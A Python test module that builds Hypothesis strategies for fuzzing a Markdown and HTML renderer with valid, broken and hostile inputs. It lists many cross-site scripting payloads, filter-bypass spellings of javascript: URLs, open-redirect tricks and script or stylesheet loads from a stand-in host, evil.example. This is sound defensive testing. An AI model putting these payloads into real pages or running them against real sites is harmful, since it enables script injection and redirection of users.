"""Texts that a model might write, or be made to write: valid, broken and hostile Markdown and HTML."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from unwritten_engine import Span

few_examples = settings(
    max_examples=100, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow], database=None
)
"""Few examples, and the same ones in every run. Disable ``derandomize`` to search for more."""

_SCRIPT = "alert(1)"

# Addresses that run a script or lead to another server, in spellings that have bypassed filters.
ADDRESSES = [
    f"javascript:{_SCRIPT}",
    f"JaVaScRiPt:{_SCRIPT}",
    f" javascript:{_SCRIPT}",
    f"\x01javascript:{_SCRIPT}",
    f"java\tscript:{_SCRIPT}",
    f"java\nscript:{_SCRIPT}",
    f"javascript&colon;{_SCRIPT}",
    f"javascript&#58;{_SCRIPT}",
    f"javascript&#x3a;{_SCRIPT}",
    f"&#106;&#97;vascript:{_SCRIPT}",
    f"&#x6A&#x61vascript:{_SCRIPT}",
    f"&#0000106avascript:{_SCRIPT}",
    f"java&Tab;script:{_SCRIPT}",
    f"java&NewLine;script:{_SCRIPT}",
    f"javascript%3A{_SCRIPT}",
    f"javascript://%0a{_SCRIPT}",
    f"jav&#x0A;ascript:{_SCRIPT}",
    f"vbscript:{_SCRIPT}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/1",
    "https://evil.example/x",
    "//evil.example/x",
    "///evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example",
    "/%2F/evil.example",
    "/..//evil.example",
    "/.//evil.example",
    "http:evil.example",
    "https:/evil.example",
    "//[",
    "http://[::1",
    "//\u2100.example",
    "mailto:a@evil.example",
    "?plain=1",
    "#top",
    "Tower",
    "../Tower",
    "/wiki/Sea",
    "",
]

_FIXED_VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.gif">',
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><script>alert(1)</script></template>",
    "<template hx type=partial hx-target='#main'>x</template>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<div hx-get=/_unwritten/rewrite hx-trigger=load>x</div>",
    "<div data-hx-get=/x data-hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)' hx-on--load=alert(1)>x</div>",
    "<div ws-connect=/x ws-send sse-connect=/x>x</div>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<p onclick=alert(1) onmouseover='alert(1)' ONFOCUS=alert(1) autofocus tabindex=0>x</p>",
    "<p/onclick=alert(1)/x=y>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<form action=/_unwritten/rewrite method=post><input name=page value=/><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) id=main class=region data-region=lead>",
    "<div id=region-lead class=region data-region=lead data-page=/>x</div>",
    "<a id=main href=Tower>x</a><p id=main>y</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!doctype html><html><head><script>alert(1)</script></head><body>x",
    "</div></div></body></html><script>alert(1)</script>",
    "</p></span></a></table>x",
    "<table><td><p><table><a href=x>y<table><a href=z>",
    "<a href=Tower>one<a href=Sea>two</a></a>",
    "<p title='a > b < c [[Tower]]'>x</p>",
    "<p title='&quot; onclick=alert(1) x=&quot;'>x</p>",
    "<p title='[[Tower|&quot; onclick=alert(1) x=&quot;]]'>x</p>",
    "<a title=' href=' lang=' x' href='//evil.example'>x</a>",
    "[[<script>alert(1)</script>]]",
    "[[Tower|<img src=x onerror=alert(1)>]]",
    '[[" onclick="alert(1)|x]]',
    "[[//evil.example|x]]",
    "[[javascript:alert(1)]]",
    "![x](https://evil.example/beacon.gif)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&ltscript&gtalert(1)",
    "\ue000\ue001\ue001<b>\ue000</b>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u2028\u2029\u202e\ufeff\u200b<b>x",
]

_TRICKS = [
    *("//evil.example/x", "/\\evil.example", "/.//evil.example", "/%2e%2e//evil.example", "/%5Cevil.example"),
    *("/%2F/evil.example", "/\t/evil.example", "\\\\evil.example", "https:evil.example", "//own@evil.example"),
    *(
        "//evil\u3002example",
        "/\uff0f/evil.example",
        "/_unwritten/edit?page=/",
        "/_unwritte%6e/box",
        "/x/../_unwritten/x",
    ),
    *(
        "%2e%2e//evil.example",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "\x01javascript:alert(1)",
    ),
]

# Everything that takes a URL, in each syntax.
_PLACES = [
    *('<a href="URL">x</a>', "<a href='URL' ping='URL' target=_blank download>x</a>", "<a\nhref=\nURL>x</a>"),
    *('<area href="URL" shape=default>', '<img src="URL" srcset="URL 2x, URL 3x" longdesc="URL" lowsrc="URL">'),
    *(
        '<picture><source srcset="URL"><img src="URL"></picture>',
        '<video src="URL" poster="URL"><track src="URL"></video>',
    ),
    *('<audio src="URL"></audio>', '<form action="URL"><button formaction="URL">x</button></form>'),
    *('<input type=image src="URL" formaction="URL">', '<table background="URL"><tr><td background="URL">x</table>'),
    *('<blockquote cite="URL">x</blockquote><q cite="URL">x</q><del cite="URL">x</del>', '<embed src="URL">'),
    *('<object data="URL" codebase="URL">x</object>', '<iframe src="URL" srcdoc="URL"></iframe>', '<base href="URL">'),
    *('<link rel=stylesheet href="URL">', '<meta http-equiv=refresh content="0;url=URL">', '<body background="URL">'),
    *(
        '<svg><a href="URL" xlink:href="URL"><text>x</text></a></svg>',
        '<svg><use href="URL" xlink:href="URL#x"/></svg>',
    ),
    *('<svg><image href="URL" xlink:href="URL"/><feImage href="URL"/></svg>', '<svg><script href="URL"/></svg>'),
    *('<svg><a><animate attributeName=href to="URL" values="URL"/><set attributeName=href to="URL"/>x</a></svg>',),
    *("<svg><rect fill='url(URL)' mask='url(\"URL\")' style='fill:url(URL);filter:url(URL#x)'/></svg>",),
    *('<p style="background:url(URL)">x</p>', "<style>@import 'URL'; p { background: url(URL) }</style>"),
    *(
        '<math href="URL" xlink:href="URL"><mi>x</mi></math>',
        '<html manifest="URL">',
        '<p hx-get="URL" data-src="URL">x</p>',
    ),
    *(
        "[x](URL)",
        "[x](<URL>)",
        "![x](URL)",
        "[x][r]\n\n[r]: URL",
        "[x][s]\n\n[s]: <URL> 'y'",
        "<URL>",
        "[[URL]]",
        "[[URL|x]]",
    ),
]

URL_VECTORS = [
    "\n\n".join(place.replace("URL", url) for url in _TRICKS[start : start + 5])
    for place in _PLACES
    for start in range(0, len(_TRICKS), 5)
]
"""Every place that takes a URL, with URLs that lead elsewhere or to the framework's own routes, five in one text."""

VECTORS = [
    *_FIXED_VECTORS,
    *URL_VECTORS,
    *(f'<a href="{address}">x</a>' for address in ADDRESSES),
    *(f"<a href={address}>x</a>" for address in ADDRESSES),
    *(f"[x]({address})" for address in ADDRESSES),
    *(f"[x](<{address}>)" for address in ADDRESSES),
]

VALID_PIECES = [
    "A lighthouse is a tower. ",
    "It was **built** in *stone*. ",
    "See [[Tower]] and [[Lamp|the lamp]]. ",
    "Read [the sea](Sea). ",
    "# A title\n",
    "## History\n",
    "Title\n=====\n",
    "- one\n- two\n",
    "1. one\n2. two\n",
    "1. one\n\n2. two\n",
    "- one\n\n  more of it\n\n- two\n",
    "> a quote\n> goes on\n",
    "| a | b |\n|---|---|\n| 1 | [[Two]] |\n",
    "```\ncode **here**\n```\n",
    "~~~\ncode\n\nmore\n~~~\n",
    "`code`",
    "***\n",
    "a\\*b\\[c ",
    "x < y && z > 1 ",
    "&amp; &copy; &#169; ",
    "<p>A <b>bold</b> claim</p>",
    '<h2 id="x">Head</h2><ul><li>one<li>two</ul>',
    "<table><tr><td>1<td>2</table>",
    '<a href="Tower">a tower</a> ',
    "<br><hr>",
    "café 灯台 🗼 ",
]

BROKEN_PIECES = [
    "**", "*", "_", "__", "`", "``", "```", "~~~", "[", "]", "[[", "]]", "[[Tow", "[[Tower|", "](", "](Sea", "![", "|",
    "<", "</", "<a", "<a href=", '<a href="', "<!--", "-->", "<![CDATA[", "&", "&#", "&#x3", "&lt", "\\", "    ", "\t",
    "1", "1.", "-", "+", ">", "#", "=", "---", "\r\n", "\r", "\u2028", "\x0b", "\x0c", "\x85", "\xa0", "\ue000",
    "\ue001", "<b>", "</b>", "<i>", "</p>", "<p>", "<li>", "</ul>", "<table>", "</table>", "<tr>", "<td>", "<div>",
    "<a href=x>",
]  # fmt: skip

_pieces = st.one_of(
    st.sampled_from(VALID_PIECES), st.sampled_from(BROKEN_PIECES), st.sampled_from(VECTORS), st.text(max_size=8)
)
_joints = st.sampled_from(["", "", " ", "\n", "\n\n"])


def _join(parts: list[tuple[str, str]]) -> str:
    return "".join(piece + joint for piece, joint in parts)


hostile_texts = st.lists(st.tuples(_pieces, _joints), max_size=12).map(_join)
"""Any text."""

good_texts = st.lists(
    st.tuples(st.sampled_from([piece for piece in VALID_PIECES if not piece.startswith("<")]), _joints), max_size=12
).map(_join)
"""Valid Markdown."""

markdown_texts = st.lists(
    st.tuples(st.one_of(st.sampled_from(VALID_PIECES), st.sampled_from(BROKEN_PIECES)), _joints), max_size=12
).map(_join)
"""Valid and broken Markdown."""


def prefix_of(data: st.DataObject, text: str) -> str:
    """Return a random prefix of a text."""
    return text[: data.draw(st.integers(0, len(text)), label="length")]


def spans_in(data: st.DataObject, text: str) -> tuple[Span, ...]:
    """Return random spans of a text, in order and without overlap."""
    if not text:
        return ()
    ends = data.draw(st.lists(st.integers(0, len(text)), max_size=8, unique=True), label="ends")
    ends.sort()
    return tuple(zip(ends[::2], ends[1::2], strict=False))


# Fragments that make careless parsers slow when they are repeated.
REPEATED = [
    *("*", "**", "*a ", "*a **b ", "**a** ", "***a* ", "a*b", "_a ", "_*", "~~a ", "~", "`", "` ", "`a ``b ", "2*3 "),
    *("[", "[[", "[ ", "[a](", "[a](b ", "[a](b) ", "[[a|", "[[a]] ", "[[a]](", "![", "![a](", "[^1]", "]", "]]"),
    *("<", "<a:", "<http://a>", "<!--", "&", "&amp;", "\\", "!", "\\*", "「**", "#", "|", "|a", "a | ", "=", "-", "%"),
    *("\n", "\r", "\t", " ", "a  ", "a\n", "a\n\n", "- a\n", "- a\n\n", "- ", "* ", "1. ", "> ", ">", ">\n", "# a\n"),
    *("- - a\n", "```\n", "```a\n\n", "a | b\n", "a|b\n-|-\n", "| a | b |\n", "=\n", "a\n=\n", "word and ", "    a\n"),
    *("[a [b] ", "[x[a]", "[x](", "[a](b)(", "[[a\n", "`[", "[`", "<a@", "a\\\n", "[ ]", "- [ ] a\n", "[a\n](b) "),
    "**[[a]]** ",
]  # fmt: skip


def repeated(fragment: str, size: int) -> str:
    """Return ``size`` characters of a fragment."""
    return (fragment * (size // len(fragment) + 1))[:size]


def nested_list(size: int) -> str:
    """Return a list in a list in a list, of about ``size`` characters."""
    return "".join("  " * level + "- a\n" for level in range(int(size**0.5)))[:size]
